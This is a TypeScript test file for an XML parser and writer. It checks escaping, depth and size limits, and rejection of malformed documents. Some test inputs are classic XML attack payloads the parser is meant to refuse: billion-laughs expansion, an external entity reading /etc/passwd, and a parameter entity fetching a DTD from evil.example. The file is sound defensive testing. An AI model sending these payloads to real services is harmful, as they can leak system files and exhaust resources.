import { SaxesParser } from 'saxes';
import { describe, expect, it } from 'vitest';
import { parseXml } from '../../../src/kit/http/xml.ts';
import { xmlBody } from '../../../src/kit/http/xml-body.ts';
import { XmlMistake } from '../../../src/kit/http/xml-mistake.ts';

const PEOPLE = `<?xml version="1.0" encoding="UTF-8"?>
<!-- people -->
<people type="array">
  <person><id type="integer">1</id><first-name>Zo&#235; &amp; &lt;Co&gt;</first-name><tags><tag>a</tag></tags></person>
  <person><id type="integer">2</id><first-name><![CDATA[<b>]]></first-name><tags><tag>b</tag><tag>c</tag></tags></person>
</people>`;

describe('reading XML', () => {
  it('gives elements, attributes and text', () => {
    const root = parseXml(PEOPLE);
    expect([root.name, root.attribute('type'), root.attribute('none')]).toEqual(['people', 'array', undefined]);
    const [first, second] = root.children('person');
    expect(root.children()).toHaveLength(2);
    expect(first?.child('first-name')?.text).toBe('Zoë & <Co>');
    expect(second?.child('first-name')?.text).toBe('<b>');
    expect(second?.child('id')?.attribute('type')).toBe('integer');
    expect(root.child('tag')).toBeUndefined();
    expect(root.all('tag').map((tag) => tag.text)).toEqual(['a', 'b', 'c']);
    expect(second?.all('tag').map((tag) => tag.text)).toEqual(['b', 'c']);
  });

  it('takes every character that XML 1.0 has, and only its line ends', () => {
    const text = 'a\uFFFDb\u0085c\u2028d\u{1F525}e';
    expect(parseXml(`<a>${text}\r\n\r</a>`).text).toBe(`${text}\n\n`);
  });

  it('gives names without their prefix', () => {
    const root = parseXml('<s:a xmlns:s="urn:x" s:k="1"><s:b>1</s:b><b xmlns="urn:y">2</b></s:a>');
    expect([root.name, root.attribute('s:k')]).toEqual(['a', '1']);
    expect(root.children('b').map((child) => child.text)).toEqual(['1', '2']);
  });

  it.each([
    ['a document type', '<!DOCTYPE a><a/>'],
    ['one after comments and a byte order mark', '\uFEFF<?xml version="1.0"?> <!-- x --> <?pi?>\n<!doctype a><a/>'],
    [
      'a billion laughs',
      `<!DOCTYPE lolz [<!ENTITY a "lol"><!ENTITY b "${'&a;'.repeat(10)}"><!ENTITY c "${'&b;'.repeat(10)}">]><a>&c;</a>`,
    ],
    ['an entity of a file', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'],
    ['a parameter entity', '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><a/>'],
  ])('refuses %s', (_name, text) => {
    expect(() => parseXml(text)).toThrow(expect.objectContaining({ message: expect.stringContaining('DOCTYPE') }));
  });

  it.each([
    ['nothing', ''],
    ['no element', '<?xml version="1.0"?>'],
    ['text', 'hello'],
    ['JSON', '{"a": 1}'],
    ['HTML', '<html><body><p>x<br></body></html>'],
    ['an element that is not closed', '<a><b></a>'],
    ['an end that is missing', '<a><b/>'],
    ['two roots', '<a/><b/>'],
    ['text behind the root', '<a/>more'],
    ['an attribute without quotes', '<a b=1/>'],
    ['an attribute twice', '<a b="1" b="2"/>'],
    ['an unknown entity', '<a>&nbsp;</a>'],
    ['a lone ampersand', '<a>Tom & Jerry</a>'],
    ['a document type within', '<a><!DOCTYPE b></a>'],
    ['an unknown prefix', '<x:a/>'],
    ['a cut comment', '<a><!-- '],
    ['a lone ampersand in an attribute', '<a b="Tom & Jerry"/>'],
    ['a reference without an end', '<a>&amp</a>'],
    ['a character that XML has not', '<a>\u0000</a>'],
    ['a reference to a character that XML has not', '<a>&#0;</a>'],
    ['a reference to no character', '<a>&#x110000;</a>'],
    ['a surrogate', '<a>&#xD800;</a>'],
  ])('refuses %s', (_name, text) => {
    expect(() => parseXml(text)).toThrow(XmlMistake);
  });

  it('does not repeat the document in what it throws', () => {
    expect(() => parseXml('<secret-name>4711<')).toThrow(
      expect.not.objectContaining({ message: expect.stringMatching(/secret|4711/) }),
    );
  });

  it('refuses a tree that is too deep, without building it', () => {
    expect(parseXml(`${'<a>'.repeat(200)}${'</a>'.repeat(200)}`).name).toBe('a');
    expect(() => parseXml(`${'<a>'.repeat(201)}${'</a>'.repeat(201)}`)).toThrow(XmlMistake);
    expect(() => parseXml('<a>'.repeat(1_000_000))).toThrow(
      expect.objectContaining({ message: expect.stringContaining('deep') }),
    );
    expect(() => parseXml('<a b="/>">'.repeat(100_000))).toThrow(
      expect.objectContaining({ message: expect.stringContaining('deep') }),
    );
    const flat = `<r>${'<a b="/>"/><!-- <a> --><![CDATA[<a>]]><?a <a> ?>'.repeat(300)}</r>`;
    expect(parseXml(flat).children('a')).toHaveLength(300);
  });
});

it('refuses more elements than any list has, before they are made', () => {
  expect(parseXml(`<a>${'<b/>'.repeat(2_000)}</a>`).children()).toHaveLength(2_000);
  expect(() => parseXml(`<a>${'<b/>'.repeat(250_000)}</a>`)).toThrow('more than 250000 elements');
});

describe('writing XML', () => {
  it('escapes what XML takes for itself', async () => {
    const text = await xmlBody([
      'person',
      [
        ['name', `<b> & "it's" > ]]>`],
        ['note', [], { type: 'a"<&>\n\t' }],
      ],
    ]);
    expect(text).toBe(
      '<?xml version="1.0" encoding="UTF-8"?>' +
        '<person><name>&lt;b&gt; &amp; "it\'s" &gt; ]]&gt;</name><note type="a&quot;&lt;&amp;&gt;&#10;&#9;"></note></person>',
    );
  });

  it('is read back as it was, by this parser and by another', async () => {
    const value = 'Zoë 🙂 \r\n\t<![CDATA[x]]> &amp; ';
    const text = await xmlBody(['a', [['b', value, { k: value }]]]);
    const child = parseXml(text).child('b');
    expect([child?.text, child?.attribute('k')]).toEqual([value, value]);
    let read = '';
    const parser = new SaxesParser();
    parser.on('text', (part) => {
      read += part;
    });
    parser.write(text).close();
    expect(read).toBe(value);
  });

  it('takes out what XML cannot hold', async () => {
    expect(await xmlBody(['a', 'x\u0000\u0008\uFFFE\uD800y'])).toMatch(/<a>xy<\/a>$/);
  });

  it('writes numbers and truth, and leaves out what is undefined', async () => {
    const text = await xmlBody([
      'a',
      [
        ['b', 1],
        ['c', false],
        ['d', undefined],
        ['e', ''],
      ],
    ]);
    expect(text).toMatch(/<a><b>1<\/b><c>false<\/c><e><\/e><\/a>$/);
  });

  it.each(['', 'a b', '1a', 'a>', 'a:b:c', '-a'])('refuses the name "%s"', async (name) => {
    await expect(xmlBody([name, 'x'])).rejects.toThrow('no name of an XML element');
    await expect(xmlBody(['a', 'x', { [name]: 'y' }])).rejects.toThrow('no name of an XML element');
  });
});
